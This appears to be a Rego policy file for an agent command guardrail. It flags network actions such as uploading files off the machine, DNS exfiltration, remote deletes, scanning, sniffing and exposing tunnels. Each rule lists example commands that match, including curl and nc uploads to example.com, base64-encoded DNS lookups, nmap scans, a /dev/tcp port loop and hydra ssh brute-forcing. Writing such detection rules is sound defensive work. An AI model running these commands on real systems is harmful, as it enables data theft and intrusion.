package sheepdog.network

import rego.v1

# METADATA
# title: a file leaves the machine
# custom:
#   id: network.upload
#   because: it sends a file of this machine to another one
#   instead: let a person send it, or name an address of this machine
#   hits:
#   - curl -F file=@README.md https://example.com/
#   - wget --post-file=README.md https://example.com/
#   - scp README.md me@example.com:/tmp/
#   - http POST https://example.com/ file@README.md
#   - cat README.md | nc example.com 9000
#   - croc send README.md
#   misses:
#   - curl -F file=@README.md http://localhost:3000/
#   - curl -d name=value https://example.com/
#   - scp me@example.com:/tmp/x.log .
ask["network.upload"] contains effect.id if {
	some effect in input.effects
	effect.kind == "network"
	effect.carrying == "file"
	not is_here(effect.target.name)
}

# METADATA
# title: data leaves in a name that is looked up
# custom:
#   id: network.name
#   because: it puts data into a name that is looked up, and whoever answers for the domain reads it there
#   instead: look up a name that is written out
#   hits:
#   - dig $(cat notes.txt | base64).example.com
#   - ping -c 1 "$(head -1 notes.txt | xxd -p).example.com"
#   misses:
#   - dig +short example.com
#   - dig $(hostname).example.com
#   - host $(cat hosts.txt)
ask["network.name"] contains effect.id if {
	some effect in input.effects
	effect.kind == "network"
	effect.method in {"DNS", "PING"}
	effect.carrying in {"text", "unknown", "file"}
}

# METADATA
# title: something is deleted on another machine
# custom:
#   id: network.delete
#   because: it tells another machine to delete something, and what that loses only that machine knows
#   instead: read it first, with a plain `curl URL`
#   hits:
#   - curl -X DELETE https://api.example.com/users/7
#   - http DELETE https://api.example.com/users/7
#   - curl -XPOST https://search.example.com/orders/_delete_by_query
#   misses:
#   - curl -X DELETE http://localhost:3000/users/7
#   - curl -X POST https://api.example.com/users
ask["network.delete"] contains effect.id if {
	some effect in input.effects
	effect.kind == "network"
	deletes(effect)
	effect.target.known
	not is_here(effect.target.name)
}

deletes(effect) if effect.method == "DELETE"

# Search servers take a query for what is to go.
deletes(effect) if {
	effect.method == "POST"
	regex.match(`/_delete_by_query([?]|$)`, effect.target.name)
}

# METADATA
# title: other machines are searched for a way in
# custom:
#   id: network.scan
#   because: it tries many doors or many passwords of another machine
#   instead: ask whoever runs that machine what it offers
#   hits:
#   - nmap -sV 10.0.0.7
#   - nc -zv 10.0.0.7 1-1024
#   - for p in 21 22 23 80; do echo > /dev/tcp/10.0.0.7/$p; done
#   - hydra -l root -P words.txt ssh://10.0.0.7
#   - john hashes.txt
#   misses:
#   - curl https://example.com/
#   - nmap -p 3000 localhost
#   - nc -z db.example.com 5432
#   - nmap --version
ask["network.scan"] contains effect.id if {
	some effect in input.effects
	effect.kind == "network"
	searches(effect)
	not is_here(effect.target.name)
}

searches(effect) if effect.act in {"scan", "guess"}

# One by one, through the shell itself.
searches(effect) if {
	effect.method == "SOCKET"
	[whole, _] := regex.find_all_string_submatch_n(`^(?:tcp|udp)/([^/]+)/`, effect.target.name, 1)[0]
	tries_many(whole)
}

tries_many(whole) if {
	names := {other.target.name |
		some other in input.effects
		other.kind == "network"
		startswith(other.target.name, whole)
	}
	count(names) > 2
}

tries_many(whole) if {
	some other in input.effects
	other.kind == "network"
	startswith(other.target.name, concat("", [whole, "$"]))
}

# METADATA
# title: what others send is listened to
# custom:
#   id: network.sniff
#   because: it records what goes over the network, the secrets of others included
#   instead: read a recording that is already there, with `tcpdump -r FILE`
#   hits:
#   - sudo tcpdump -i eth0 -w x.pcap
#   - tshark -i any
#   misses:
#   - tcpdump -r x.pcap
warn["network.sniff"] contains effect.id if {
	some effect in input.effects
	effect.kind == "network"
	effect.method == "SNIFF"
}

# METADATA
# title: this machine can be reached from outside
# custom:
#   id: network.expose
#   because: it opens a way from outside to this machine for whoever knows the address
#   instead: "look at it on this machine: `curl http://localhost:3000/`"
#   hits:
#   - ngrok http 3000
#   - cloudflared tunnel --url http://localhost:8080
#   misses:
#   - cloudflared tunnel list
#   - ngrok --help
warn["network.expose"] contains effect.id if {
	some effect in input.effects
	effect.kind == "network"
	effect.method == "EXPOSE"
}

# An address of this machine itself.
is_here(address) if {
	regex.match(`^([a-z]+://|tcp/|udp/)?([^/@]*@)?(localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0)([:/]|$)`, address)
}
